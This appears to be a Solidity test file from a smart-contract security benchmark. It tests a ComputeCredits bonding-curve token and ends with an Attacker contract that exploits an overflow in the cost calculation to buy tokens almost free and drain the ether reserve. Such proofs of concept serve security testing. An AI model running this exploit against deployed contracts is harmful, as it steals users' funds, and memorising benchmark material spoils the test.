// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./ComputeCredits.sol";

// assay-canary-c02aa580-7773-41fe-be10-332d8f9de3bb

interface Vm {
    function deal(address who, uint256 balance) external;
    function prank(address sender) external;
    function expectRevert(bytes calldata reason) external;
    function warp(uint256 time) external;
}

// takes no ether
contract Closed {}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 internal constant RESERVE = 9000 ether;
    uint256 internal constant SUPPLY = 1e26;
    uint256 internal constant START = 1_767_800_000;
    address internal constant KEEPER = address(0x6EE9);
    address internal constant WORKER = address(0x3084E4);
    address internal constant CLIENT = address(0xC11E);
    address payable internal constant TREASURY = address(0x74EA);

    ComputeCredits internal credits;
    Attacker internal thief;

    receive() external payable {}

    function setUp() public {
        vm.warp(START);
        vm.deal(address(this), RESERVE + 1000 ether);
        credits = new ComputeCredits{value: RESERVE}(SUPPLY, KEEPER, TREASURY);
        credits.setSellFee(50);
        credits.transfer(WORKER, 1000 ether);
        credits.transfer(CLIENT, 1000 ether);
        vm.prank(WORKER);
        credits.bond(500 ether);
        thief = new Attacker(credits);
        vm.deal(address(thief), 0.001 ether);
    }

    function post(uint256 reward) internal returns (uint256 id) {
        vm.prank(CLIENT);
        id = credits.post(reward, 1 days);
    }

    function test_Regular() public {
        // one hundredth of the supply: 0.0201 of the reserve
        uint256 cost = credits.costOf(SUPPLY / 100);
        require(cost == 180.9 ether + 1, "cost");
        require(credits.spotPrice() == 180_000_000_000_000, "spot");
        uint256 before = address(this).balance;
        credits.buy{value: 500 ether}(SUPPLY / 100, cost);
        require(address(this).balance == before - cost, "change");
        require(credits.reserve() == address(credits).balance, "reserve");
        before = address(this).balance;
        credits.sell(address(this), SUPPLY / 100, 80 ether);
        require(address(this).balance - before < cost && credits.totalSupply() == SUPPLY, "sold for less");
        uint256 fee = credits.fees();
        require(credits.reserve() + fee == address(credits).balance && fee > 0.4 ether, "fee");
        credits.claimFees();
        require(TREASURY.balance == fee && credits.fees() == 0, "claimed");
        credits.donate{value: 1 ether}();
        credits.buyFor{value: 1 ether}(CLIENT, 1 ether, 1 ether);
        require(credits.balanceOf(CLIENT) == 1001 ether, "for another");

        uint256 id = post(100 ether);
        vm.prank(WORKER);
        credits.take(id);
        require(credits.locked(WORKER) == 10 ether && credits.bonds(WORKER) == 490 ether, "locked");
        vm.prank(KEEPER);
        credits.confirm(id);
        require(credits.balanceOf(WORKER) == 600 ether && credits.bonds(WORKER) == 500 ether, "done");
        id = post(200 ether);
        vm.prank(CLIENT);
        credits.cancel(id);
        id = post(200 ether);
        vm.prank(WORKER);
        credits.take(id);
        vm.warp(START + 3 days);
        credits.expire(id);
        require(credits.balanceOf(CLIENT) == 921 ether && credits.bonds(WORKER) == 480 ether, "late");
        vm.prank(WORKER);
        credits.unbond(480 ether);
        vm.warp(START + 10 days);
        vm.prank(WORKER);
        credits.exit();
        require(credits.balanceOf(WORKER) == 1080 ether, "out");

        id = credits.grant(CLIENT, 100 ether, 100 days);
        vm.warp(START + 35 days);
        vm.prank(CLIENT);
        require(credits.claim(id) == 25 ether, "a quarter");
        vm.warp(START + 200 days);
        vm.prank(CLIENT);
        require(credits.claim(id) == 75 ether && credits.balanceOf(CLIENT) == 1021 ether, "the rest");
        require(credits.balanceOf(address(credits)) == 0, "nothing left behind");

        vm.prank(CLIENT);
        credits.approve(WORKER, 2 ether);
        vm.prank(CLIENT);
        credits.increaseAllowance(WORKER, 2 ether);
        vm.prank(CLIENT);
        credits.decreaseAllowance(WORKER, 1 ether);
        vm.prank(WORKER);
        credits.transferFrom(CLIENT, WORKER, 3 ether);
        credits.setKeeper(WORKER);
        credits.setTreasury(address(this));
        credits.pause();
        credits.sell(address(this), 1 ether, 0);
        credits.unpause();
        credits.transferOwnership(CLIENT);
        vm.prank(CLIENT);
        credits.renounceOwnership();
        require(credits.keeper() == WORKER && credits.treasury() == address(this), "set");
    }

    // what is refused, each from the state after setUp()

    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function test_RefusesTrades() public {
        vm.expectRevert("!amount");
        credits.buy{value: 1 ether}(0, 1 ether);
        vm.expectRevert("!max");
        credits.buy{value: 500 ether}(SUPPLY / 100, 180.9 ether);
        vm.expectRevert("!value");
        credits.buy{value: 180.9 ether}(SUPPLY / 100, 500 ether);
        vm.expectRevert("!least");
        credits.sell(address(this), SUPPLY / 100, 90 ether);
        vm.expectRevert("!last");
        credits.sell(address(this), SUPPLY, 0);
        vm.expectRevert("!value");
        credits.donate();
        vm.expectRevert("SafeMath: multiplication overflow");
        credits.costOf(uint256(-1));
        refuses(address(thief), "ERC20: burn amount exceeds balance");
        credits.sell(address(this), 1, 0);
        credits.pause();
        vm.expectRevert("Pausable: paused");
        credits.buy{value: 1 ether}(1 ether, 1 ether);
    }

    function test_RefusesFailedPayments() public {
        address payable closed = payable(address(new Closed()));
        vm.expectRevert("Address: unable to send value, recipient may have reverted");
        credits.sell(closed, 1 ether, 0);
        vm.deal(closed, 2 ether);
        refuses(closed, "Address: unable to send value, recipient may have reverted");
        credits.buy{value: 1 ether}(1 ether, 1 ether);
    }

    function test_RefusesJobs() public {
        vm.expectRevert("!reward");
        credits.post(0, 1 days);
        vm.expectRevert("!span");
        credits.post(1 ether, 1 hours - 1);
        vm.expectRevert("!span");
        credits.post(1 ether, 90 days + 1);
        uint256 id = post(100 ether);
        refuses(CLIENT, "!bond");
        credits.take(id);
        refuses(KEEPER, "!taken");
        credits.confirm(id);
        refuses(WORKER, "!client");
        credits.cancel(id);
        vm.prank(WORKER);
        credits.take(id);
        refuses(WORKER, "!open");
        credits.take(id);
        refuses(CLIENT, "!open");
        credits.cancel(id);
        refuses(WORKER, "!keeper");
        credits.confirm(id);
        vm.warp(START + 3 days - 1);
        vm.expectRevert("!deadline");
        credits.expire(id);
        vm.prank(KEEPER);
        credits.confirm(id);
        refuses(KEEPER, "!taken");
        credits.confirm(id);
        vm.warp(START + 3 days);
        vm.expectRevert("!taken");
        credits.expire(id);
    }

    function test_RefusesLateJobs() public {
        uint256 id = post(100 ether);
        post(100 ether);
        vm.warp(START + 1 days);
        refuses(WORKER, "!deadline");
        credits.take(id);
        vm.warp(START + 3 days);
        vm.expectRevert("!taken");
        credits.expire(id);
        vm.prank(CLIENT);
        credits.cancel(id);
        refuses(CLIENT, "!open");
        credits.cancel(id);
    }

    function test_RefusesBonds() public {
        refuses(WORKER, "!amount");
        credits.bond(0);
        refuses(WORKER, "!amount");
        credits.unbond(0);
        refuses(WORKER, "!bond");
        credits.unbond(501 ether);
        refuses(WORKER, "!ready");
        credits.exit();
        vm.prank(WORKER);
        credits.unbond(500 ether);
        vm.warp(START + 7 days - 1);
        refuses(WORKER, "!ready");
        credits.exit();
    }

    function test_RefusesGrants() public {
        vm.expectRevert("!to");
        credits.grant(address(0), 1, 1);
        vm.expectRevert("!amount");
        credits.grant(CLIENT, 0, 1);
        vm.expectRevert("!span");
        credits.grant(CLIENT, 1, 0);
        vm.expectRevert("!span");
        credits.grant(CLIENT, 1, 1462 days);
        credits.grant(CLIENT, 1 ether, 1 days);
        refuses(WORKER, "!to");
        credits.claim(0);
    }

    function test_RefusesStrangers() public {
        bytes memory why = "Ownable: caller is not the owner";
        refuses(KEEPER, why);
        credits.setKeeper(KEEPER);
        refuses(KEEPER, why);
        credits.setTreasury(TREASURY);
        refuses(KEEPER, why);
        credits.setSellFee(1);
        refuses(KEEPER, why);
        credits.pause();
        refuses(CLIENT, why);
        credits.grant(CLIENT, 1, 1);
        refuses(KEEPER, why);
        credits.transferOwnership(KEEPER);
        refuses(KEEPER, why);
        credits.renounceOwnership();
        vm.expectRevert("!keeper");
        credits.setKeeper(address(0));
        vm.expectRevert("!treasury");
        credits.setTreasury(address(0));
        vm.expectRevert("!fee");
        credits.setSellFee(201);
        credits.pause();
        refuses(KEEPER, why);
        credits.unpause();
    }

    function start(uint256 value, uint256 supply) internal returns (bool) {
        try new ComputeCredits{value: value}(supply, KEEPER, TREASURY) {
            return true;
        } catch Error(string memory why) {
            require(keccak256(bytes(why)) == keccak256("!start"), "another reason");
            return false;
        }
    }

    function test_RefusesEmptyStarts() public {
        require(!start(1, 0) && !start(0, 1) && start(1, 1), "start");
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = address(thief).balance;
        exploit();
        require(address(thief).balance >= before + 8540 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(credits);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

// Looks for the amount whose cost has just gone around, buys it for next to nothing and sells it.
contract Attacker {
    ComputeCredits internal credits;

    constructor(ComputeCredits credits_) public {
        credits = credits_;
    }

    receive() external payable {}

    // the least n with reserve * n * (n + 2 * supply) of 2^256 or more
    function amount() public view returns (uint256) {
        uint256 supply = credits.totalSupply();
        uint256 goal = uint256(-1) / credits.reserve() + 1;
        uint256 low = 0;
        uint256 high = 1e30;
        while (low + 1 < high) {
            uint256 middle = (low + high) / 2;
            if (middle * (middle + 2 * supply) >= goal) high = middle;
            else low = middle;
        }
        return high;
    }

    function run() external {
        uint256 n = amount();
        credits.buy{value: address(this).balance}(n, uint256(-1));
        credits.sell(address(this), n, 0);
    }
}
